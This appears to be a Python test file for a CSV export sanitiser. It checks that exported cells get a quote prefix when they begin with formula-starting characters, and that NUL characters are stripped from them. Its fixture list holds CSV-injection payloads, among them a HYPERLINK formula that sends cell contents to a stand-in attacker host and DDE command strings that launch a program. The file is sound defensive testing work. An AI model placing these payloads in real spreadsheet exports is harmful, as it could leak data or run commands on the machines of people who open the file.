"""Cells exported to CSV are never run as formulas, whatever a hostile value starts with."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from outcomes.exports import frame_to_csv, spreadsheet_safe

# OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula, plus
# LF, which a spreadsheet may trim to bring what follows to the start of the cell.
DANGEROUS_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\0=1+2",
    "\0\0+1",
    "=\0cmd",
    "a;=1+2",
    'a","=1+2',
]


def _cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    text = io.StringIO(data.decode("utf-8"), newline="")
    return list(csv.reader(text, delimiter=delimiter))


@pytest.mark.parametrize("first", DANGEROUS_STARTS)
def test_every_dangerous_first_character_gets_the_quote_prefix(first: str) -> None:
    assert spreadsheet_safe(first + "x") == "'" + first + "x"


def test_nul_characters_are_removed_anywhere_before_the_prefix_is_decided() -> None:
    assert spreadsheet_safe("\0=1+2") == "'=1+2"
    assert spreadsheet_safe("ab\0c\0") == "abc"
    assert spreadsheet_safe("\0") == ""


def test_harmless_values_are_left_as_they_are() -> None:
    assert spreadsheet_safe("x=1") == "x=1"
    assert spreadsheet_safe("line one\nline two") == "line one\nline two"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None


def test_no_csv_cell_from_hostile_values_can_start_a_formula() -> None:
    frame = pd.DataFrame({"value": HOSTILE, "n": range(len(HOSTILE))})
    data = frame_to_csv(frame)
    assert b"\0" not in data
    rows = _cells(data)
    assert rows[0] == ["value", "n"]
    cells = [row[0] for row in rows[1:]]
    assert len(cells) == len(HOSTILE), "a hostile value split or merged rows"
    for cell in cells:
        assert not cell.startswith(tuple(DANGEROUS_STARTS)), cell
    assert cells[HOSTILE.index("a;=1+2")] == "a;=1+2"  # kept whole inside one quoted cell
    # Every cell is quoted, so where ';' is the list separator it does not start a cell either.
    for row in _cells(data, delimiter=";"):
        assert not any(cell.startswith(tuple(DANGEROUS_STARTS)) for cell in row), row
